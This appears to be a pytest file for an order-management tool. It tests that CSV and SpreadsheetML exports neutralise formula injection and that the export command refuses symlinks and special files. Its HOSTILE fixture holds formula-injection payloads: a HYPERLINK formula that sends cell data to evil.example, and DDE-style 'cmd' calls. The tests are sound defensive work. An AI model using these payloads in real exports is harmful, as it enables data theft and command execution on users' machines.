"""Exports that cannot be turned against their users (issue 17 item 5, S-4): formula-like cells
neutralised in CSV and SpreadsheetML, and `orders export --output` writing only where it was
told, safely."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

from postsales.adapters.cli.main import cli
from postsales.core.bootstrap import Postsales
from postsales.core.services.messages.inbound import import_lines
from postsales.core.services.search import export_orders
from postsales.core.services.users import get_user
from tests.conftest import example, example_path

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0@example.com",
    "phone": "-2+3+cmd|' /C calc'!A0",
}
COLUMNS = ["id", "bill_to", "customer_name", "email", "telephone", "grand_total", "zip"]


def run(*args: str) -> object:
    from postsales.adapters.cli import commands  # noqa: F401  (registers subcommands)

    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def hostile_order(app: Postsales) -> None:
    message = example("order-create.json")
    order = message["payload"]["order"]
    order["customer"].update(HOSTILE)
    order["addresses"][0].update(
        first_name=HOSTILE["first_name"], last_name="\tTab", zip="\r9", company_name="@x"
    )
    order["client_order_reference"] = "=1+2"
    assert not import_lines(app, [json.dumps(message)]).refused


def test_formula_like_cells_are_text_in_csv_and_xml(app: Postsales) -> None:
    hostile_order(app)
    user = get_user(app, None)
    out = io.BytesIO()
    export_orders(app, user, fmt="csv", columns=COLUMNS, out=out)
    text = out.getvalue().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["Bill to"] == "'" + HOSTILE["first_name"] + " \tTab"
    assert cells["Customer"] == "'" + HOSTILE["first_name"] + " " + HOSTILE["last_name"]
    assert cells["Email"] == "'" + HOSTILE["email"]
    assert cells["Telephone"] == "'" + HOSTILE["phone"]
    assert cells["Grand total"] == "118.80" and cells["ID"] == "000000101"
    # Every field quoted: a spreadsheet splitting on ";" cannot start a cell mid-field.
    assert all(line.startswith('"') for line in text.lstrip("\ufeff").splitlines() if line)
    for line in text.splitlines():
        for field in line.split('","'):
            assert field.strip('"')[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    xml = io.BytesIO()
    export_orders(app, user, fmt="xml", columns=COLUMNS, out=xml)
    ns = {"ss": "urn:schemas-microsoft-com:office:spreadsheet"}
    rows = ElementTree.fromstring(xml.getvalue()).findall(".//ss:Row", ns)
    values = [d.text or "" for d in rows[1].findall("ss:Cell/ss:Data", ns)]
    assert values[COLUMNS.index("email")] == "'" + HOSTILE["email"]
    assert values[COLUMNS.index("grand_total")] == "118.80"
    assert not any(v[:1] in "=+-@\t\r" and v for v in values)


def test_a_negative_amount_stays_a_number() -> None:
    from zoneinfo import ZoneInfo

    from postsales.core.search.columns import export_cells

    cells = export_cells(["grand_total", "id"], ZoneInfo("UTC"))
    assert cells((-500, "USD", "-1")) == ["-5.00", "'-1"]


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    assert run("--db", url, "init").exit_code == 0
    assert run("--db", url, "import", str(example_path("order-create.json"))).exit_code == 0
    return url


def export(db: str, target: Path | str) -> object:
    return run("--db", db, "orders", "export", "--columns", "id,email", "--output", str(target))


def test_the_file_is_written_beside_the_target_mode_0600(db: str, tmp_path: Path) -> None:
    target = tmp_path / "out" / "orders.csv"
    target.parent.mkdir()
    target.write_text("old")
    os.chmod(target, 0o644)
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    (target.parent / "orders.csv.part").symlink_to(victim)  # planted for the old name
    result = export(db, target)
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "keep me"
    assert "veronica.costello@example.com" in target.read_text(encoding="utf-8-sig")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["orders.csv", "orders.csv.part"]


def test_anything_but_a_regular_file_or_a_new_path_is_refused(db: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    targets = {link: "is a symbolic link", fifo: "is a FIFO", tmp_path: "is a folder"}
    device = tmp_path / "full"
    try:  # a copy of /dev/full (1, 7), never the real one
        os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 7))
        targets[device] = "is a character device"
    except PermissionError:
        pass
    for target, says in targets.items():
        result = export(db, target)
        assert result.exit_code == 2 and says in result.output, (target, result.output)
    assert link.is_symlink() and victim.read_text() == "keep me"
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    if device in targets:
        assert stat.S_ISCHR(device.lstat().st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_a_missing_folder_is_a_clear_error(db: str, tmp_path: Path) -> None:
    result = export(db, tmp_path / "nowhere" / "orders.csv")
    assert result.exit_code == 2
    assert f"the folder {tmp_path / 'nowhere'} does not exist" in result.output
    assert "Traceback" not in result.output


def test_a_failed_export_leaves_the_target_as_it_was(db: str, tmp_path: Path) -> None:
    target = tmp_path / "orders.csv"
    target.write_text("old")
    result = run("--db", db, "orders", "export", "--columns", "colour", "--output", str(target))
    assert result.exit_code == 2 and target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
